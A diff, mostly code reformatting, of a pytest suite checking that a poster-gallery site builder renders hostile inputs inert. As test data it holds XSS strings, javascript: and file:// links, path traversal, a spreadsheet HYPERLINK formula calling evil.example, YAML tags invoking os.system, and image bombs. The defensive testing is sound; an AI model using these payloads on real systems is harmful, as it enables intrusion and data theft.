@@ -5,6 +5,7 @@ front-matter payloads in every field of poster.yml and every label of extra.gall
 export, and hostile files, folders and sizes. The built site is checked as HTML: it has no element or
 attribute that the same site built from plain text lacks, and every value shows as the text it was.
 """
+
 from __future__ import annotations
 
 import csv
@@ -24,26 +25,31 @@ from pathlib import Path
 import pytest
 import yaml
 
-from hostilekit import PAYLOADS, build_hostile_project, gallery_cli, write_many_posters
-from imagefiles import png_bytes, write_png_bomb
-from projectkit import GOOD_POSTER, Project, messages
+from postergallery.build import reserved_slugs
 from postergallery.commands import codes as ballot_codes
 from postergallery.commands import tally
 from postergallery.i18n import Translator
-from postergallery.build import reserved_slugs
 from postergallery.stages.load import load_posters
 from postergallery.stages.render import html_text
 from postergallery.stages.writer import GENERATED_MARKER
+
+from hostilekit import PAYLOADS, build_hostile_project, gallery_cli, write_many_posters
+from imagefiles import png_bytes, write_png_bomb
+from projectkit import GOOD_POSTER, Project, messages
 
 EN = Translator("en")
 
 
 def tree_state(folder: Path) -> dict[str, str]:
-    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
-            for p in sorted(folder.rglob("*")) if p.is_file() and not p.is_symlink()}
+    return {
+        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in sorted(folder.rglob("*"))
+        if p.is_file() and not p.is_symlink()
+    }
 
 
 # ------------------------------------------------------------ the sites ---
+
 
 @pytest.fixture(scope="module")
 def hostile(tmp_path_factory):
@@ -60,7 +66,7 @@ def benign(tmp_path_factory):
 
     project = Project(tmp_path_factory.mktemp("benign") / "site-project")
     for i, role in enumerate(("instructor", "trainee", "alumni") * 2):
-        links = '\nlinks:\n  - label: Skema\n    url: https://example.org/skema' if i % 2 else ""
+        links = "\nlinks:\n  - label: Skema\n    url: https://example.org/skema" if i % 2 else ""
         extra = f"program: Las\ndate: 2024-01-0{i + 1}\nsummary: Satu.\n\n  Dua.\ntags: [las, k3]{links}\n"
         project.add_poster(f"poster-{i}", GOOD_POSTER.replace("alumni", role).replace("Las SMAW", f"Las {i}") + extra)
     gallery = re.sub(r'(title|intro): ".*"', r'\1: "Galeri biasa"', HOSTILE_GALLERY)
@@ -71,8 +77,9 @@ def benign(tmp_path_factory):
     codes = ballot_codes.make_codes(3)
     rows = [f"2024/01/30 9:0{i}:00 AM GMT+7,{p.slug},{i:032x},{codes[i]}\n" for i, p in enumerate(posters[:3])]
     export = "<b>Timestamp</b>,=poster,token,code\n" + "".join(rows)
-    result = tally.count_votes(export.encode(), settings.vote, posters, EN, valid_codes=set(codes),
-                               export_name="export.csv")
+    result = tally.count_votes(
+        export.encode(), settings.vote, posters, EN, valid_codes=set(codes), export_name="export.csv"
+    )
     tally.write_results(result, settings.vote, project.root / "results", EN)
     proc = project.mkdocs("build", "--strict")
     assert proc.returncode == 0, proc.stderr
@@ -203,9 +210,10 @@ def test_every_hostile_value_shows_on_the_page_as_the_text_it_was(hostile):
     home = (site / "index.html").read_text("utf-8")
     vote = (site / "vote/index.html").read_text("utf-8")
     labels = (site / "print/index.html").read_text("utf-8")
-    assert _texts(home, "pg-home__title", "h1") == ['<script>window.__pwned=30</script> Galeri {{ x }}']
+    assert _texts(home, "pg-home__title", "h1") == ["<script>window.__pwned=30</script> Galeri {{ x }}"]
     assert _texts(home, "pg-intro", "p") == [
-        '<img src=x onerror=window.__pwned=31> [x](javascript:window.__pwned=32) --8<-- "/etc/passwd"']
+        '<img src=x onerror=window.__pwned=31> [x](javascript:window.__pwned=32) --8<-- "/etc/passwd"'
+    ]
     for slug, values in corpus.items():
         if values is None:
             continue
@@ -221,7 +229,8 @@ def test_every_hostile_value_shows_on_the_page_as_the_text_it_was(hostile):
         assert [unescape(t) for t in re.findall(r'<a href="[^"]+">(.*?)</a>', tags)] == values["tags"]
         links = re.search(r'<ul class="pg-links">(.*?)</ul>', html, re.S).group(1)
         assert [(unescape(h), unescape(t)) for h, t in re.findall(r'<a href="([^"]+)"[^>]*>(.*?)</a>', links)] == [
-            (link["url"], link["label"]) for link in values["links"]]
+            (link["url"], link["label"]) for link in values["links"]
+        ]
         assert values["title"] in _texts(home, "pg-card__title", "span")
         assert values["title"] in _texts(labels, "label__title", "h2")
         assert values["title"] in [t for t in _attr(vote, "pg-vote__radio", "data-title")]
@@ -231,8 +240,9 @@ def test_every_hostile_value_shows_on_the_page_as_the_text_it_was(hostile):
     summary = re.search(r'<div class="pg-summary">(.*?)</div>', html, re.S).group(1)
     assert [unescape(p) for p in re.findall(r"<p>(.*?)</p>", summary, re.S)] == [
         '--8<-- "/etc/passwd"',
-        "--- title: front matter inside a summary --- <div onclick=\"window.__pwned=27\">raw HTML block</div>",
-        'indented four spaces: code? {% include "base.html" %}']
+        '--- title: front matter inside a summary --- <div onclick="window.__pwned=27">raw HTML block</div>',
+        'indented four spaces: code? {% include "base.html" %}',
+    ]
 
 
 def test_generated_pages_are_front_matter_and_one_raw_html_block_with_no_user_text_starting_a_line(hostile):
@@ -249,7 +259,7 @@ def test_generated_pages_are_front_matter_and_one_raw_html_block_with_no_user_te
         for key, value in meta.items():
             if isinstance(value, str):  # HTML-escaped: Material prints these as they are
                 assert "<" not in value and ">" not in value and "{" not in value, (rel, key, value)
-        body = text[match.end():]
+        body = text[match.end() :]
         if rel.startswith("results/"):
             continue  # Markdown made by the count, checked in test_results_page_csv_and_chart_are_inert
         lines = body.strip("\n").split("\n")
@@ -259,8 +269,9 @@ def test_generated_pages_are_front_matter_and_one_raw_html_block_with_no_user_te
         assert TopLevel("\n".join(lines[1:])).closed_once, rel  # Markdown keeps one element as raw HTML
     for slug, values in corpus.items():
         if values:
-            meta = yaml.safe_load(re.match(r"---\n(.*?)\n---\n", (docs / "poster" / slug / "index.md").read_text(),
-                                           re.S).group(1))
+            meta = yaml.safe_load(
+                re.match(r"---\n(.*?)\n---\n", (docs / "poster" / slug / "index.md").read_text(), re.S).group(1)
+            )
             assert unescape(meta["title"]) == values["title"]
 
 
@@ -273,9 +284,15 @@ def test_the_poster_list_and_the_data_in_pages_read_back_as_written(hostile):
         if values:
             entry = by_slug[slug]
             assert (entry["title"], entry["authors"], entry["center"], entry["tags"]) == (
-                values["title"], values["authors"], values["center"], values["tags"])
-            assert all(re.fullmatch(r"poster/[a-z0-9-]+/[a-z0-9]+\.[0-9a-f]{10}\.(webp|jpg)", i["src"])
-                       for i in entry["images"].values())
+                values["title"],
+                values["authors"],
+                values["center"],
+                values["tags"],
+            )
+            assert all(
+                re.fullmatch(r"poster/[a-z0-9-]+/[a-z0-9]+\.[0-9a-f]{10}\.(webp|jpg)", i["src"])
+                for i in entry["images"].values()
+            )
             assert re.fullmatch(r"#[0-9a-f]{6}", entry["placeholder"])
     show = (site / "kiosk/show/index.html").read_text("utf-8")
     config = re.search(r'<script type="application/json" id="kiosk-config">(.*?)</script>', show, re.S).group(1)
@@ -292,7 +309,8 @@ def test_results_page_csv_and_chart_are_inert(hostile):
     html = (project.root / "site/results/index.html").read_text("utf-8")
     titles = [unescape(t) for t in re.findall(r'<td><a href="\.\./poster/[a-z0-9-]+/">(.*?)</a></td>', html)]
     expected = {v["title"] for v in corpus.values() if v} | {
-        '</title><script>window.__pwned=20</script> {{ lipsum() }}'}
+        "</title><script>window.__pwned=20</script> {{ lipsum() }}"
+    }
     assert sorted(titles) == sorted(expected)
     assert "Counted from the export &lt;img src=x onerror=window.__pwned=41&gt;.csv (SHA-256" in html
     for name in ("results.csv", "rejected.csv"):
@@ -303,16 +321,18 @@ def test_results_page_csv_and_chart_are_inert(hostile):
                 first = cell.lstrip(" \t\r\n\u00a0\u3000")[:1]
                 assert first not in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"), (name, cell)
     results_rows = list(csv.reader(io.StringIO((results / "results.csv").read_text("utf-8"))))
-    assert ["'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"klik\") +1 -1 @SUM(1)"] == [
-        r[4] for r in results_rows if "HYPERLINK" in r[4]]
+    assert [r[4] for r in results_rows if "HYPERLINK" in r[4]] == [
+        '\'=HYPERLINK("https://evil.example/?x="&A1,"klik") +1 -1 @SUM(1)'
+    ]
     rejected = (results / "rejected.csv").read_text("utf-8")
     assert "the time '2024/01/30 11:00:00 AM" in rejected and "' cannot be read" in rejected
     svg = ET.fromstring((results / "results.svg").read_text("utf-8"))
     names = {el.tag.split("}")[1] for el in svg.iter()}
     assert names <= {"svg", "title", "text", "g", "rect"}, names
     assert not [a for el in svg.iter() for a in el.attrib if a.lower().startswith("on") or "href" in a]
-    assert '</title><script>window.__pwned=20</script> {{ lipsum() }}: 1' in [
-        el.text for el in svg.iter("{http://www.w3.org/2000/svg}title")]
+    assert "</title><script>window.__pwned=20</script> {{ lipsum() }}: 1" in [
+        el.text for el in svg.iter("{http://www.w3.org/2000/svg}title")
+    ]
 
 
 def test_ballot_code_files_are_inert_with_a_hostile_site_name(tmp_path):
@@ -328,8 +348,9 @@ def test_ballot_code_files_are_inert_with_a_hostile_site_name(tmp_path):
 
     codes = ballot_codes.make_codes(30)
     rows = list(csv.reader(io.StringIO(codes_csv(codes, EN))))
-    assert rows[0] == ["No", "Code"] and all(re.fullmatch(r"\d+", n) and re.fullmatch(r"[2-9A-Z]{4}-[2-9A-Z]{4}", c)
-                                             for n, c in rows[1:])
+    assert rows[0] == ["No", "Code"] and all(
+        re.fullmatch(r"\d+", n) and re.fullmatch(r"[2-9A-Z]{4}-[2-9A-Z]{4}", c) for n, c in rows[1:]
+    )
     sheet = render_sheet(codes, Settings, EN)
     assert "<script>" not in sheet and "=cmd|&#34;/C calc&#34;!A0 &lt;script&gt;" in sheet
     page = Markup(sheet)
@@ -356,58 +377,90 @@ LINK_REFUSED = "is not allowed: only web addresses starting with https:// or htt
 LINK_CHARACTERS = "contains spaces, quotes or other characters a web address cannot have."
 
 
-@pytest.mark.parametrize("url, shown, reason", [
-    ("javascript:alert(1)", "javascript:alert(1)", LINK_REFUSED),
-    ("JaVaScRiPt:alert(1)", "JaVaScRiPt:alert(1)", LINK_REFUSED),
-    (" javascript:alert(1)", "javascript:alert(1)", LINK_REFUSED),
-    ("vbscript:msgbox(1)", "vbscript:msgbox(1)", LINK_REFUSED),
-    ("data:text/html,<b>", "data:text/html,<b>", LINK_CHARACTERS),
-    ("data:text/html;base64,PGI+", "data:text/html;base64,PGI+", LINK_REFUSED),
-    ("file:///etc/passwd", "file:///etc/passwd", LINK_REFUSED),
-    ("//evil.example/", "//evil.example/", LINK_REFUSED),
-    ("\u202ehttps://example.org/", "\\u202ehttps://example.org/", LINK_REFUSED),
-    ("java\tscript:alert(1)", "java script:alert(1)", LINK_CHARACTERS),
-    ('https://example.org/"onmouseover="x', 'https://example.org/"onmouseover="x', LINK_CHARACTERS),
-    ("https://evil.example/<script>", "https://evil.example/<script>", LINK_CHARACTERS),
-    ("https:evil.example", "https:evil.example", "has no valid site name after https://."),
-])
+@pytest.mark.parametrize(
+    "url, shown, reason",
+    [
+        ("javascript:alert(1)", "javascript:alert(1)", LINK_REFUSED),
+        ("JaVaScRiPt:alert(1)", "JaVaScRiPt:alert(1)", LINK_REFUSED),
+        (" javascript:alert(1)", "javascript:alert(1)", LINK_REFUSED),
+        ("vbscript:msgbox(1)", "vbscript:msgbox(1)", LINK_REFUSED),
+        ("data:text/html,<b>", "data:text/html,<b>", LINK_CHARACTERS),
+        ("data:text/html;base64,PGI+", "data:text/html;base64,PGI+", LINK_REFUSED),
+        ("file:///etc/passwd", "file:///etc/passwd", LINK_REFUSED),
+        ("//evil.example/", "//evil.example/", LINK_REFUSED),
+        ("\u202ehttps://example.org/", "\\u202ehttps://example.org/", LINK_REFUSED),
+        ("java\tscript:alert(1)", "java script:alert(1)", LINK_CHARACTERS),
+        ('https://example.org/"onmouseover="x', 'https://example.org/"onmouseover="x', LINK_CHARACTERS),
+        ("https://evil.example/<script>", "https://evil.example/<script>", LINK_CHARACTERS),
+        ("https:evil.example", "https:evil.example", "has no valid site name after https://."),
+    ],
+)
 def test_only_web_addresses_are_linked(project, url, shown, reason):
     project.add_poster("one", GOOD_POSTER + "links:\n  - label: x\n    url: " + json.dumps(url) + "\n")
     assert messages(project.check()) == [f"posters/one/poster.yml:9:10: the link '{shown}' {reason}"]
 
 
-@pytest.mark.parametrize("provider, url, message", [
-    ("google_forms", "javascript:alert(1)", "'url' must start with https:// (found 'javascript:alert(1)'), e.g. "
-                                            "https://docs.google.com/forms/d/e/FORM_ID/formResponse"),
-    ("form", "data:text/html,x", "'url' must start with https:// (found 'data:text/html,x'), e.g. "
-                                 "https://example.org/vote"),
-    ("form", "http://evil.example/vote", "'url' must start with https:// (found 'http://evil.example/vote'), e.g. "
-                                         "https://example.org/vote"),
-    ("form", 'https://evil.example/"onmouseover=x', "'url' must be a web address without spaces or quotes, e.g. "
-                                                    "https://example.org/vote"),
-    ("tally", "javascript://tally.so/r/abc", "'url' must start with https:// (found 'javascript://tally.so/r/abc'), "
-                                             "e.g. https://tally.so/r/FORM_ID"),
-    ("form", "https://[evil/vote", "'url' must be a web address without spaces or quotes, e.g. "
-                                   "https://example.org/vote"),  # a host Python cannot split: no traceback
-])
+@pytest.mark.parametrize(
+    "provider, url, message",
+    [
+        (
+            "google_forms",
+            "javascript:alert(1)",
+            "'url' must start with https:// (found 'javascript:alert(1)'), e.g. "
+            "https://docs.google.com/forms/d/e/FORM_ID/formResponse",
+        ),
+        (
+            "form",
+            "data:text/html,x",
+            "'url' must start with https:// (found 'data:text/html,x'), e.g. https://example.org/vote",
+        ),
+        (
+            "form",
+            "http://evil.example/vote",
+            "'url' must start with https:// (found 'http://evil.example/vote'), e.g. https://example.org/vote",
+        ),
+        (
+            "form",
+            'https://evil.example/"onmouseover=x',
+            "'url' must be a web address without spaces or quotes, e.g. https://example.org/vote",
+        ),
+        (
+            "tally",
+            "javascript://tally.so/r/abc",
+            "'url' must start with https:// (found 'javascript://tally.so/r/abc'), e.g. https://tally.so/r/FORM_ID",
+        ),
+        (
+            "form",
+            "https://[evil/vote",
+            "'url' must be a web address without spaces or quotes, e.g. https://example.org/vote",
+        ),  # a host Python cannot split: no traceback
+    ],
+)
 def test_vote_addresses_are_validated(project, provider, url, message):
     project.add_poster("one")
-    project.write_config(f"vote:\n  provider: {provider}\n  url: {json.dumps(url)}\n"
-                         "  fields: {poster: entry.1, token: entry.2}\n")
+    project.write_config(
+        f"vote:\n  provider: {provider}\n  url: {json.dumps(url)}\n  fields: {{poster: entry.1, token: entry.2}}\n"
+    )
     assert messages(project.check(), "mkdocs.yml") == [f"mkdocs.yml:21:12: {message}"]
 
 
-@pytest.mark.parametrize("site_url, reason", [
-    ("javascript:alert(1)//", "must be the full address of the published site, e.g. https://ORG.github.io/REPO/."),
-    ("data:text/html,x", "must be the full address of the published site, e.g. https://ORG.github.io/REPO/."),
-    ("//evil.example/", "must be the full address of the published site, e.g. https://ORG.github.io/REPO/."),
-    ('https://x.org/"><script>', "contains spaces, quotes or other characters a web address cannot have."),
-    ("https://[x.org/", "must be the full address of the published site, e.g. https://ORG.github.io/REPO/."),
-])
+@pytest.mark.parametrize(
+    "site_url, reason",
+    [
+        ("javascript:alert(1)//", "must be the full address of the published site, e.g. https://ORG.github.io/REPO/."),
+        ("data:text/html,x", "must be the full address of the published site, e.g. https://ORG.github.io/REPO/."),
+        ("//evil.example/", "must be the full address of the published site, e.g. https://ORG.github.io/REPO/."),
+        ('https://x.org/"><script>', "contains spaces, quotes or other characters a web address cannot have."),
+        ("https://[x.org/", "must be the full address of the published site, e.g. https://ORG.github.io/REPO/."),
+    ],
+)
 def test_site_url_is_validated(project, site_url, reason):
     project.add_poster("one")
-    project.config.write_text(project.config.read_text().replace(
-        "site_url: https://example.org/gallery/", "site_url: " + json.dumps(site_url)))
+    project.config.write_text(
+        project.config.read_text().replace(
+            "site_url: https://example.org/gallery/", "site_url: " + json.dumps(site_url)
+        )
+    )
     problems = messages(project.check(), "mkdocs.yml")
     assert f"mkdocs.yml:2:11: site_url '{site_url}' {reason}" in problems
     assert not (project.root / "docs" / "poster").exists()
@@ -420,8 +473,13 @@ def test_hostile_files_and_folders_are_refused_in_words_and_nothing_hangs(projec
     from imagefiles import write_jpeg
 
     write_jpeg(outside / "poster.jpg")
-    for name, image in [("image-dotdot", ".."), ("image-abs", "/etc/passwd"), ("image-up", "../up/poster.jpg"),
-                        ("image-nul", "poster.jpg\0"), ("image-back", "..\\poster.jpg")]:
+    for name, image in [
+        ("image-dotdot", ".."),
+        ("image-abs", "/etc/passwd"),
+        ("image-up", "../up/poster.jpg"),
+        ("image-nul", "poster.jpg\0"),
+        ("image-back", "..\\poster.jpg"),
+    ]:
         project.add_poster(name, GOOD_POSTER + "image: " + json.dumps(image) + "\n")
     os.symlink(outside / "poster.jpg", project.add_poster("linked-file", image=None) / "poster.jpg")
     os.symlink(outside / "poster.yml", project.add_poster("linked-yml", None) / "poster.yml")
@@ -435,8 +493,10 @@ def test_hostile_files_and_folders_are_refused_in_words_and_nothing_hangs(projec
         project.add_poster(slug)
     proc = gallery_cli(project, "--lang", "en", "build")  # a subprocess with a timeout: a hang fails
     assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
-    image_name = ("'image' must be just the name of a file in this folder, like poster.jpg, without any folder in "
-                  "front ('{}' is not allowed).")
+    image_name = (
+        "'image' must be just the name of a file in this folder, like poster.jpg, without any folder in "
+        "front ('{}' is not allowed)."
+    )
     expected = [
         "posters/bad\\x1b[2J\\x0dAll good\\u202e/: the folder name 'bad\\x1b[2J\\x0dAll good\\u202e' becomes the "
         "poster's web address, so it may contain only lowercase letters a-z, digits 0-9 and single dashes between "
@@ -456,13 +516,17 @@ def test_hostile_files_and_folders_are_refused_in_words_and_nothing_hangs(projec
         "posters/linked-folder: 'linked-folder' is a link (symlink) to another folder; put the poster folder itself "
         "here.",
         "posters/linked-yml/poster.yml: poster.yml must be an ordinary file, not a link (symlink) or a folder.",
-    ] + [f"posters/{slug}/: the folder name '{slug}' is used by the site itself; rename the folder, e.g. to "
-         f"'poster-{slug}'." for slug in sorted(reserved_slugs())]
+    ] + [
+        f"posters/{slug}/: the folder name '{slug}' is used by the site itself; rename the folder, e.g. to "
+        f"'poster-{slug}'."
+        for slug in sorted(reserved_slugs())
+    ]
     shown = [line for line in proc.stdout.splitlines() if line.startswith("posters/")]
     assert shown == sorted(expected, key=lambda m: m.split(": ", 1)[0].rstrip("/") + "\0" + m)
     assert "\x1b" not in proc.stdout and "\r" not in proc.stdout and "\u202e" not in proc.stdout
     assert not (project.root / "docs" / "poster").exists() or sorted(
-        p.name for p in (project.root / "docs" / "poster").iterdir()) == ["index.md", "posters.json"]
+        p.name for p in (project.root / "docs" / "poster").iterdir()
+    ) == ["index.md", "posters.json"]
 
 
 def _jpeg_claiming(width: int, height: int) -> bytes:
@@ -473,7 +537,7 @@ def _jpeg_claiming(width: int, height: int) -> bytes:
     Image.new("RGB", (16, 16), (90, 90, 90)).save(out, "JPEG")
     data = bytearray(out.getvalue())
     sof = data.index(b"\xff\xc0")
-    data[sof + 5:sof + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
+    data[sof + 5 : sof + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
     return bytes(data)
 
 
@@ -482,19 +546,25 @@ def test_oversized_input_is_refused_quickly_with_a_message(project):
 
     project.add_poster("huge-yml", GOOD_POSTER + "summary: |\n" + "  kata kata kata kata\n" * 4000)
     project.add_poster("deep", "title: " + "[" * 30000 + "]" * 30000 + "\n")
-    project.add_poster("alias", "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
-                                "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n")
+    project.add_poster(
+        "alias",
+        "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
+        "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n",
+    )
     project.add_poster("long-title", GOOD_POSTER.replace("title: Las SMAW dari Nol", "title: " + "panjang " * 7000))
     project.add_poster("many-keys", "title: x\n" * 6000)
     write_png_bomb(project.add_poster("png-bomb", image=None) / "poster.png")
     (project.add_poster("jpeg-bomb", image=None) / "poster.jpg").write_bytes(_jpeg_claiming(65000, 65000))
     (project.add_poster("png-sliver", image=None) / "poster.png").write_bytes(
-        png_bytes(1, 2_000_000, 8, 0, b"\0\x80" * 2_000_000))
+        png_bytes(1, 2_000_000, 8, 0, b"\0\x80" * 2_000_000)
+    )
     (project.add_poster("pdf-sliver", image=None) / "poster.pdf").write_bytes(pdf_bytes(box=(0, 0, 1, 1000000)))
     (project.add_poster("pdf-pages", image=None) / "poster.pdf").write_bytes(pdf_bytes(pages=5000))
     result = project.build()
-    sliver = ("'{}' is {} in size: its long side is more than 100 times its short side, which no poster is. Export "
-              "the whole poster as one page, in its real proportions.")
+    sliver = (
+        "'{}' is {} in size: its long side is more than 100 times its short side, which no poster is. Export "
+        "the whole poster as one page, in its real proportions."
+    )
     repeated = "posters/many-keys/poster.yml:{}:1: the field 'title' appears twice (first on line 1); keep only one."
     assert messages(result) == [
         "posters/alias/poster.yml:1:4: poster.yml uses a YAML anchor (&) or alias (*); write each value out in full "
@@ -542,13 +612,15 @@ def test_five_thousand_poster_folders_are_checked_with_bounded_memory(tmp_path):
     """The metadata of 5,000 posters (the figures are in SECURITY.md, from benchmarks/hostile_input.py)."""
     write_many_posters(tmp_path, 5000, bad_every=500)
     scripts = Path(__file__).parents[1] / "scripts"
-    proc = subprocess.run([sys.executable, "-c", METADATA_5000, str(tmp_path), str(scripts)], capture_output=True,
-                          text=True, timeout=600)
+    proc = subprocess.run(
+        [sys.executable, "-c", METADATA_5000, str(tmp_path), str(scripts)], capture_output=True, text=True, timeout=600
+    )
     assert proc.returncode == 0, proc.stderr
     report = json.loads(proc.stdout)
     assert report["posters"] == 4990
     assert len(report["problems"]) == 10 and report["problems"][0].startswith(
-        "posters/poster-0000/poster.yml:5:7: 'role' is 'teacher', which is not one of the allowed values")
+        "posters/poster-0000/poster.yml:5:7: 'role' is 'teacher', which is not one of the allowed values"
+    )
     assert report["max_rss_mb"] < 150, report  # about 25 MB: what is read is not kept
 
 
@@ -561,17 +633,24 @@ def test_nothing_in_a_poster_folder_is_run_imported_or_expanded(project, tmp_pat
     """Python files, a .pth, templates, YAML tags that would run code or read the environment: all inert."""
     ran = tmp_path / "ran"
     ran.mkdir()
-    poster = project.add_poster("one", GOOD_POSTER + textwrap.dedent("""\
+    poster = project.add_poster(
+        "one",
+        GOOD_POSTER
+        + textwrap.dedent("""\
         program: !ENV GALLERY_TEST_SECRET
         summary: !!python/module:os
-        """))
-    tagged = project.add_poster("tagged", textwrap.dedent(f"""\
+        """),
+    )
+    tagged = project.add_poster(
+        "tagged",
+        textwrap.dedent(f"""\
         title: !!python/object/apply:os.system ["touch {ran}/yaml-apply"]
         authors: [!!python/name:os.system ]
         role: !!python/object/new:os.system [x]
         center: !ENV [GALLERY_TEST_SECRET, fallback]
         alt: !!binary aGVsbG8=
-        """))
+        """),
+    )
     for folder in (poster, tagged, project.root / "posters"):
         for name in ("__init__.py", "conftest.py", "sitecustomize.py", "poster.py", "mkdocs_hooks.py", "setup.py"):
             (folder / name).write_text(SENTINEL_CODE.format(str(ran / f"{folder.name}-{name}")))
@@ -579,16 +658,48 @@ def test_nothing_in_a_poster_folder_is_run_imported_or_expanded(project, tmp_pat
         (folder / "main.html").write_text("{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %}")
         (folder / "mkdocs.yml").write_text("hooks: [mkdocs_hooks.py]\n")
     env = dict(os.environ, GALLERY_TEST_SECRET="s3cr3t-value-from-the-environment", NO_MKDOCS_2_WARNING="1")
-    runs = [subprocess.run([sys.executable, str(Path(__file__).parents[1] / "scripts/gallery.py"), "--config",
-                            str(project.config), "--lang", "en", command], cwd=project.root, capture_output=True,
-                           text=True, env=env, timeout=300) for command in ("check", "build")]
-    runs.append(subprocess.run([sys.executable, "-m", "mkdocs", "build"], cwd=project.root, capture_output=True,
-                               text=True, env=env, timeout=300))
+    runs = [
+        subprocess.run(
+            [
+                sys.executable,
+                str(Path(__file__).parents[1] / "scripts/gallery.py"),
+                "--config",
+                str(project.config),
+                "--lang",
+                "en",
+                command,
+            ],
+            cwd=project.root,
+            capture_output=True,
+            text=True,
+            env=env,
+            timeout=300,
+        )
+        for command in ("check", "build")
+    ]
+    runs.append(
+        subprocess.run(
+            [sys.executable, "-m", "mkdocs", "build"],
+            cwd=project.root,
+            capture_output=True,
+            text=True,
+            env=env,
+            timeout=300,
+        )
+    )
     import shutil
 
     shutil.rmtree(tagged)  # with a poster in error, mkdocs build stops: build the site without it
-    runs.append(subprocess.run([sys.executable, "-m", "mkdocs", "build"], cwd=project.root, capture_output=True,
-                               text=True, env=env, timeout=300))
+    runs.append(
+        subprocess.run(
+            [sys.executable, "-m", "mkdocs", "build"],
+            cwd=project.root,
+            capture_output=True,
+            text=True,
+            env=env,
+            timeout=300,
+        )
+    )
     assert runs[-1].returncode == 0, runs[-1].stderr
     assert list(ran.iterdir()) == []
     assert runs[0].stdout.splitlines()[:4] == [
@@ -610,11 +721,14 @@ def test_nothing_in_a_poster_folder_is_run_imported_or_expanded(project, tmp_pat
 
 # ---------------------------------------------------------- vote export ---
 
+
 def _vote_project(project):
     project.add_poster("las-smaw")
-    project.write_config("vote:\n  provider: google_forms\n"
-                         "  url: https://docs.google.com/forms/d/e/1FAIpQLSdx9TestForm0123/formResponse\n"
-                         "  fields: {poster: entry.1, token: entry.2}\n")
+    project.write_config(
+        "vote:\n  provider: google_forms\n"
+        "  url: https://docs.google.com/forms/d/e/1FAIpQLSdx9TestForm0123/formResponse\n"
+        "  fields: {poster: entry.1, token: entry.2}\n"
+    )
     settings = project.check().settings
     posters, _ = load_posters(settings.root, settings.posters, EN, reserved=reserved_slugs())
     return settings.vote, posters
@@ -622,15 +736,18 @@ def _vote_project(project):
 
 def test_export_cells_too_long_for_csv_or_for_a_time_are_rejected_rows(project):
     vote, posters = _vote_project(project)
-    export = ("Timestamp,poster,token\n"
-              f"2024/01/30 9:00:00 AM GMT+7,las-smaw,{'1' * 32}\n"
-              f"2024/01/30 9:01:00 AM GMT+7,las-smaw,\"{'x' * 200_000}\"\n"
-              f"2024/01/30 9:02:00 AM{' ' * 20_000}x,las-smaw,\n"
-              f"2024/01/30 9:03:00 AM GMT+7,las-smaw,{'2' * 32}\n").encode()
+    export = (
+        "Timestamp,poster,token\n"
+        f"2024/01/30 9:00:00 AM GMT+7,las-smaw,{'1' * 32}\n"
+        f'2024/01/30 9:01:00 AM GMT+7,las-smaw,"{"x" * 200_000}"\n'
+        f"2024/01/30 9:02:00 AM{' ' * 20_000}x,las-smaw,\n"
+        f"2024/01/30 9:03:00 AM GMT+7,las-smaw,{'2' * 32}\n"
+    ).encode()
     result = tally.count_votes(export, vote, posters, EN)
     assert [(r.line, r.kind) for r in result.rejected] == [(3, "malformed"), (4, "time")]
-    assert result.rejected[0].reason == ("this row cannot be read as CSV (a value is far too long, or its quotes do "
-                                         "not match)")
+    assert result.rejected[0].reason == (
+        "this row cannot be read as CSV (a value is far too long, or its quotes do not match)"
+    )
     assert result.rows == 4 and len(result.accepted) == 2
     old_mac = export.replace(b"\n", b"\r").replace(b"x" * 200_000, b"y").replace(b" " * 20_000, b" ")
     again = tally.count_votes(old_mac, vote, posters, EN)
@@ -640,11 +757,12 @@ def test_export_cells_too_long_for_csv_or_for_a_time_are_rejected_rows(project):
 def test_tally_prints_export_values_with_control_characters_made_visible(project, tmp_path):
     vote, posters = _vote_project(project)
     export = tmp_path / "export.csv"
-    export.write_bytes("Timestamp,poster,token\n2024/01/30 9:00:00 AM GMT+7,\"las\x1b[2J\rOK\u202e\",\n".encode())
+    export.write_bytes('Timestamp,poster,token\n2024/01/30 9:00:00 AM GMT+7,"las\x1b[2J\rOK\u202e",\n'.encode())
     proc = gallery_cli(project, "--lang", "en", "tally", str(export), "--out", str(tmp_path / "out"))
     assert proc.returncode == 0, proc.stderr
-    assert proc.stdout.splitlines()[0] == ("line 2: unknown poster 'las\\x1b[2J\\x0dOK\\u202e' (no poster on the site "
-                                           "has this id)")
+    assert proc.stdout.splitlines()[0] == (
+        "line 2: unknown poster 'las\\x1b[2J\\x0dOK\\u202e' (no poster on the site has this id)"
+    )
     assert "\x1b" not in proc.stdout and "\r" not in proc.stdout
 
 
@@ -672,6 +790,7 @@ def test_the_name_of_the_csv_inside_a_zip_export_is_shown_inert_everywhere(proje
 
 # ------------------------------------------------------- nothing leaked ---
 
+
 def test_generated_pages_vote_results_and_ballot_codes_are_never_committed_by_accident(hostile, tmp_path):
     """`git add -A` must not pick up the results before the announcement, nor the ballot codes ever."""
     project, _ = hostile
@@ -681,10 +800,16 @@ def test_generated_pages_vote_results_and_ballot_codes_are_never_committed_by_ac
     (repo / ".gitignore").write_bytes((Path(__file__).parents[1] / ".gitignore").read_bytes())
     generated = json.loads((project.root / "docs/.gallery-generated.json").read_text())["files"]
     assert "results/index.md" in generated
-    paths = sorted({f"docs/{rel}" for rel in generated} | {"docs/.gallery-generated.json", "results/results.md",
-                                                            "results/rejected.csv", "ballot-codes/codes.csv"})
-    proc = subprocess.run(["git", "check-ignore", "--no-index", "--verbose", "--non-matching", *paths], cwd=repo,
-                          capture_output=True, text=True)
+    paths = sorted(
+        {f"docs/{rel}" for rel in generated}
+        | {"docs/.gallery-generated.json", "results/results.md", "results/rejected.csv", "ballot-codes/codes.csv"}
+    )
+    proc = subprocess.run(
+        ["git", "check-ignore", "--no-index", "--verbose", "--non-matching", *paths],
